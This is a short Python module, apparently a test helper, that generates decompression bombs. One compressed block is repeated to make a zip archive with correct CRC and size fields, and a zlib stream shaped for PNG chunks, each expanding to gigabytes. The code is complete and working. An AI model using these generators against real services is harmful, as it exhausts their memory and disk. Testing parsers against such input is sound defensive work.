"""Gigabytes that pack to kilobytes, made without packing gigabytes: one packed block, many times."""

import struct
import zlib

MILLION = 1_000_000


def deflated(unit: bytes, megabytes: int, before: bytes = b"", after: bytes = b"") -> tuple[bytes, int, int]:
    """A raw deflate stream of one letter that many million times between two texts; its CRC-32, its length unpacked."""
    block = unit * MILLION
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    tail = packer.compress(after) + packer.flush()
    crc = zlib.crc32(before)
    for _n in range(megabytes):
        crc = zlib.crc32(block, crc)
    length = len(before) + megabytes * MILLION + len(after)
    return head + middle * megabytes + tail, zlib.crc32(after, crc), length


def bomb(name: str, unit: bytes, megabytes: int) -> bytes:
    """A zip file of one such member."""
    return archive({name: deflated(unit, megabytes)})


def archive(members: dict[str, tuple[bytes, int, int]]) -> bytes:
    """A zip file of streams that are packed already, each with its CRC and length."""
    whole, directory = b"", b""
    for name, (stream, crc, length) in members.items():
        word = name.encode()
        same = struct.pack("<5H3L2H", 20, 0, 8, 0, 33, crc, len(stream), length, len(word), 0)
        at, whole = len(whole), whole + b"PK\x03\x04" + same + word + stream
        directory += (
            b"PK\x01\x02" + struct.pack("<H", 20) + same + struct.pack("<3H2L", 0, 0, 0, 0, at) + word
        )
    end = struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, len(members), len(members), len(directory), len(whole), 0
    )
    return whole + directory + end


def zlib_bomb(megabytes: int) -> bytes:
    """Zeros as a zlib stream, as chunks of PNG have them; the check sum is wrong, as nobody gets that far."""
    return b"\x78\xda" + deflated(b"\0", megabytes)[0] + b"\0\0\0\1"
